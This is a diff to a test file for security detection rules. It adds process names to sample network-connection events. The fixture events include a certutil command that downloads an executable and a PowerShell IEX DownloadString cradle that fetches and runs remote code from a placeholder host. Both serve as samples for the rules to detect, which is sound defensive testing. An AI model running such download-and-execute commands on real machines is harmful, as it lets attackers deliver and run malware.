@@ -41,8 +41,8 @@ describe('rule runs', () => {
       { host: 'WKS-3', time: at(5), process_path: 'C:\\W\\System32\\certutil.exe', process_command_line: 'certutil -urlcache -f http://x/a.exe a.exe' },
       { host: 'WKS-4', time: at(60), process_path: 'C:\\W\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', process_command_line: 'powershell IEX (New-Object Net.WebClient).DownloadString(\'http://x\')' },
       { host: 'WKS-4', time: at(1), process_path: 'C:\\W\\notepad.exe', process_command_line: 'notepad c:\\enc.txt' },
-      { host: 'WKS-1', time: at(15), category: 'network', action: 'connection', dst_ip: '203.0.113.5', dst_port: 4444 },
-      { host: 'WKS-1', time: at(16), category: 'network', action: 'connection', dst_ip: '203.0.113.5', dst_port: 443 },
+      { host: 'WKS-1', time: at(15), category: 'network', action: 'connection', process_name: 'rundll32.exe', dst_ip: '203.0.113.5', dst_port: 4444 },
+      { host: 'WKS-1', time: at(16), category: 'network', action: 'connection', process_name: 'chrome.exe', dst_ip: '203.0.113.5', dst_port: 443 },
     ]);
     loaded = c.rules(RULES.join('---\n'), 'rules.yml');
   });
